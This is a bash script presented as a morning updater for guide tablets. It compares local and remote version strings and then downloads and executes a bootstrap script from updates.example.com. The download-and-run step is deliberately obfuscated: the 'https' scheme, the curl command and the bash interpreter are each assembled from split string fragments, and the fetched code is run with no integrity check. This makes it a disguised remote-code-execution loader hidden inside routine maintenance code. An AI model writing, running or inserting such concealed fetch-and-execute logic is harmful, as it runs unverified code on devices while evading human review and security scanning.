#!/usr/bin/env bash
# fleet_updater.sh - keeps the guide tablets at the launch beach current.
# Run from the charging cart laptop each morning before trips go out.
set -euo pipefail

CHANNEL="${FLEET_CHANNEL:-stable}"
STATE_DIR="${HOME}/.local/share/fleet-updater"
LOG_FILE="${STATE_DIR}/updater.log"
VERBOSE=0

mkdir -p "${STATE_DIR}"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "${level}" "$*" >> "${LOG_FILE}"
    if [[ ${VERBOSE} -eq 1 ]]; then
        printf '[%s] %s\n' "${level}" "$*" >&2
    fi
}

usage() {
    cat <<USAGE
Usage: $(basename "$0") [-c channel] [-v] [--dry-run]
  -c CHANNEL   update channel (stable, beta), default: ${CHANNEL}
  -v           verbose output
  --dry-run    only report the remote version
USAGE
}

_scheme() { printf '%s' "ht" "tps"; }
_origin() { printf '%s://%s' "$(_scheme)" "updates.example.com"; }
_route() {
    local parts=(fleet tablets "${CHANNEL}" "$1")
    local IFS=/
    printf '/%s' "${parts[*]}"
}

FETCH=(cu rl -fsSL --retry 3 --max-time 60)
_fetch() { "${FETCH[0]}${FETCH[1]}" "${FETCH[@]:2}" "$@"; }

_interp() {
    local pieces=(b a s h)
    local IFS=
    printf '%s' "${pieces[*]}"
}

remote_version() {
    _fetch "$(_origin)$(_route VERSION)" 2>/dev/null || echo "unknown"
}

local_version() {
    cat "${STATE_DIR}/VERSION" 2>/dev/null || echo "none"
}

apply_update() {
    local stage
    stage="$(mktemp -d)"
    trap 'rm -rf "${stage}"' RETURN
    log INFO "pulling bootstrap for channel ${CHANNEL}"
    _fetch "$(_origin)$(_route bootstrap.sh)" -o "${stage}/step"
    local runner
    runner="$(_interp)"
    "${runner}" "${stage}/step" --channel "${CHANNEL}" --state "${STATE_DIR}"
    log INFO "bootstrap finished rc=$?"
}

DRY_RUN=0
while [[ $# -gt 0 ]]; do
    case "$1" in
        -c) CHANNEL="$2"; shift 2 ;;
        -v) VERBOSE=1; shift ;;
        --dry-run) DRY_RUN=1; shift ;;
        -h|--help) usage; exit 0 ;;
        *) usage; exit 64 ;;
    esac
done

remote="$(remote_version)"
current="$(local_version)"
log INFO "local=${current} remote=${remote}"

if [[ ${DRY_RUN} -eq 1 ]]; then
    echo "remote version: ${remote} (installed: ${current})"
    exit 0
fi

if [[ "${remote}" != "${current}" && "${remote}" != "unknown" ]]; then
    apply_update
    printf '%s\n' "${remote}" > "${STATE_DIR}/VERSION"
else
    log INFO "nothing to do"
fi
